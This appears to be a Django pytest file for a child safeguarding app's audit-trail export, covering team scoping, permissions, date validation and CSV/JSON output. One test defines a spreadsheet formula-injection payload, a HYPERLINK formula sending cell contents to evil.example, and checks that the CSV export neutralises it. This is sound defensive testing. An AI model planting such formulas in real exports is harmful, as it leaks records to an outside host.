from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from safeguard.accounts.models import Role
from safeguard.accounts.tests.factories import TeamFactory, UserFactory
from safeguard.audit.models import AccessLogEntry
from safeguard.audit.services import audit_event_record
from safeguard.casework.tests.factories import EpisodeFactory
from safeguard.people.tests.factories import ChildFactory

pytestmark = pytest.mark.django_db


def _params(fmt="csv", start=None, end=None):
    today = timezone.localdate()
    start, end = start or today, end or today
    return {
        "start-day": start.day,
        "start-month": start.month,
        "start-year": start.year,
        "end-day": end.day,
        "end-month": end.month,
        "end-year": end.year,
        "format": fmt,
    }


@pytest.fixture
def two_teams(social_worker):
    manager = UserFactory(role=Role.TEAM_MANAGER, team=social_worker.team)
    ours, theirs = ChildFactory(), ChildFactory()
    EpisodeFactory(child=ours, worker=social_worker, team=social_worker.team)
    EpisodeFactory(child=theirs, team=TeamFactory())
    audit_event_record(
        actor=social_worker, action="child_update", instance=ours, changes={}, child_id=ours.pk
    )
    audit_event_record(
        actor=social_worker, action="child_update", instance=theirs, changes={}, child_id=theirs.pk
    )
    return manager, ours, theirs


def _csv(response):
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_team_manager_exports_only_their_teams_children(client, two_teams):
    manager, ours, _theirs = two_teams
    client.force_login(manager)
    response = client.get(reverse("records:audit_export"), _params())
    assert response["Content-Disposition"].startswith('attachment; filename="safeguard-audit-')
    rows = _csv(response)
    children = {row["child_id"] for row in rows if row["kind"] == "change"}
    assert children == {str(ours.pk)}
    assert AccessLogEntry.objects.filter(user=manager, what="audit_export").exists()


def test_director_exports_everything_as_json(client, make_user, two_teams):
    _manager, ours, theirs = two_teams
    client.force_login(make_user(Role.DIRECTOR))
    records = json.loads(client.get(reverse("records:audit_export"), _params("json")).content)
    assert {r["child_id"] for r in records if r["kind"] == "change"} == {str(ours.pk), str(theirs.pk)}


def test_social_worker_cannot_export(staff_client):
    assert staff_client.get(reverse("records:audit_export")).status_code == 403


def test_bad_range_gets_a_specific_message_and_keeps_the_dates(client, make_user):
    client.force_login(make_user(Role.SERVICE_MANAGER))
    params = _params()
    params.update(
        {
            "start-day": "10",
            "start-month": "11",
            "start-year": "2026",
            "end-day": "1",
            "end-month": "11",
            "end-year": "2026",
        }
    )
    html = client.get(reverse("records:audit_export"), params).content.decode()
    assert "End date must be the same as or after the start date" in html
    assert 'value="10"' in html


def test_empty_form_shows_the_page(client, make_user):
    client.force_login(make_user(Role.SERVICE_MANAGER))
    response = client.get(reverse("records:audit_export"))
    assert response.status_code == 200 and "Export the audit trail" in response.content.decode()


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the record")'


def _break_glass_read(child):
    reader = UserFactory(role=Role.SOCIAL_WORKER)
    return AccessLogEntry.objects.create(
        user=reader,
        what="person_record",
        object_type="people.person",
        object_id=str(child.pk),
        child_id=child.pk,
        break_glass_reason=HYPERLINK,
    )


def test_csv_export_never_contains_a_live_formula(client, make_user):
    child = ChildFactory()
    _break_glass_read(child)
    audit_event_record(actor=None, action="child_update", instance=child, changes={}, child_id=child.pk)
    client.force_login(make_user(Role.DIRECTOR))
    rows = _csv(client.get(reverse("records:audit_export"), _params()))
    reads = [row for row in rows if row["kind"] == "read" and row["action_or_read"] == "person_record"]
    assert [row["detail"] for row in reads] == ["'" + HYPERLINK]
    triggers = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(triggers)]


def test_json_export_keeps_the_reason_exactly_as_typed(client, make_user):
    child = ChildFactory()
    _break_glass_read(child)
    client.force_login(make_user(Role.DIRECTOR))
    records = json.loads(client.get(reverse("records:audit_export"), _params("json")).content)
    assert [r["detail"] for r in records if r["action_or_read"] == "person_record"] == [HYPERLINK]


def test_export_says_how_each_record_was_read(client, make_user, social_worker):
    child = ChildFactory()
    EpisodeFactory(child=child, worker=social_worker, team=social_worker.team)
    client.force_login(social_worker)
    client.get(reverse("casework:chronology_pdf", args=[child.pk]))
    client.get(reverse("people:child_list"))
    client.force_login(make_user(Role.DIRECTOR))
    rows = _csv(client.get(reverse("records:audit_export"), _params()))
    reads = {(r["action_or_read"], r["read_action"]): r for r in rows if r["kind"] == "read"}
    assert reads[("chronology", "download")]["child_id"] == str(child.pk)
    listed = reads[("child_list", "list")]
    assert (listed["child_id"], listed["read_detail"]) == ("", "All children: 1 result, page 1")
    assert all(r["read_action"] == "" for r in rows if r["kind"] == "change")
